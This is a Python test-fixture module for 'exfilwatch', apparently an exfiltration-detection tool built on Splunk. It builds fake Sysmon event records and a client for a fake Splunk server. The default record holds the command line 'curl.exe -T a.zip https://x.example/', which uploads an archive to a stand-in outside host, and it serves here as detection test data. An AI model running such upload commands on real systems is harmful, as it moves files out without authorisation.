"""Records for the tests of Splunk, and its client."""

from typing import Any

import pytest

from exfilwatch.siem.splunk import Splunk
from exfilwatch.siem.splunk_settings import SplunkSettings

from .fake_splunk import TOKEN, FakeSplunk
from .fetching import Naps

T0 = 1_773_306_842


CURL = "C:\\Windows\\System32\\curl.exe"


def record(second: float = T0, indexed: int | None = None, **fields: object) -> dict[str, object]:
    return {
        "_time": second,
        "_indextime": int(second) + 3 if indexed is None else indexed,
        "_cd": "3:41",
        "_raw": "<Event>...</Event>",
        "host": "collector",
        "index": "windows",
        "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
        "sourcetype": "XmlWinEventLog",
        "EventCode": "1",
        "Computer": "WS1.corp.example",
        "Image": CURL,
        "CommandLine": "curl.exe -T a.zip https://x.example/",
        **fields,
    }


def client(server: FakeSplunk, sleep: Naps | None = None, **settings: Any) -> Splunk:
    made = {"url": server.url, "token": TOKEN, "indexes": ("windows",), **settings}
    return Splunk("corp", SplunkSettings.model_validate(made), sleep=sleep or Naps())


both = pytest.mark.parametrize("stream", [False, True], ids=["job", "export"])
